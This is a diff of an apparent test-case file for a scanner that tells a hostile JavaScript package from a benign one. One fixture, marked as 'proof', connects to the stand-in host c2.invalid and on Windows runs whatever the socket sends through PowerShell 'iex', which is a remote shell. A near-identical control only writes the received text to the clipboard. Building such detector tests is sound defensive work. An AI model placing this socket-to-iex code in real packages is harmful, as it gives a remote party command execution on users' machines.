@@ -109,7 +109,7 @@ exports.expand = port => { const wire = ways.tcp({ host: 'tap.relay.invalid', po
     {
       when: 'one of several programs that are started at one place is a shell that runs what comes over a socket',
       files: {
-        'index.js': `const { spawn } = require('child_process'); function run(program, args, input) { const child = spawn(program, args); child.stdin.end(input ?? ''); return child; } const ways = { darwin: { write: text => run('pbcopy', [], text) }, win32: { write: text => run('powershell.exe', ['-NoProfile', '-Command', 'Set-Clipboard -Value 1; iex ([Console]::In.ReadToEnd())'], text) }, linux: { write: text => run('xclip', ['-i'], text) } }; require('net').connect(4444, 'c2.invalid').on('data', text => ways[process.platform].write(text));`,
+        'index.js': `const { spawn } = require('child_process'); const ways = { darwin: ['pbcopy', []], win32: ['powershell.exe', ['-NoProfile', '-Command', 'Set-Clipboard -Value 1; iex ([Console]::In.ReadToEnd())']], linux: ['xclip', ['-i']] }; const [program, words] = ways[process.platform]; require('net').connect(47, 'c2.invalid').on('data', text => spawn(program, words).stdin.end(text));`,
       },
       weight: 'proof',
     },
@@ -124,7 +124,7 @@ exports.expand = port => { const wire = ways.tcp({ host: 'tap.relay.invalid', po
     {
       when: 'what another machine sends is put into the clipboard by whatever the system brings for that, started at one place',
       files: {
-        'index.js': `const { spawn } = require('child_process'); function run(program, args, input) { const child = spawn(program, args); child.stdin.end(input ?? ''); return child; } const ways = { darwin: { write: text => run('pbcopy', [], text) }, win32: { write: text => run('powershell.exe', ['-NoProfile', '-Command', '[Console]::InputEncoding=[Text.Encoding]::UTF8; Set-Clipboard -Value ([Console]::In.ReadToEnd())'], text) }, linux: { write: text => run('xclip', ['-i'], text) } }; exports.take = (port, host) => require('net').connect(port, host).on('data', text => ways[process.platform].write(text));`,
+        'index.js': `const { spawn } = require('child_process'); const ways = { darwin: ['pbcopy', []], win32: ['powershell.exe', ['-NoProfile', '-Command', '[Console]::InputEncoding=[Text.Encoding]::UTF8; Set-Clipboard -Value ([Console]::In.ReadToEnd())']], linux: ['xclip', ['-i']] }; const [program, words] = ways[process.platform]; require('net').connect(47, process.argv[2]).on('data', text => spawn(program, words).stdin.end(text));`,
       },
     },
     {
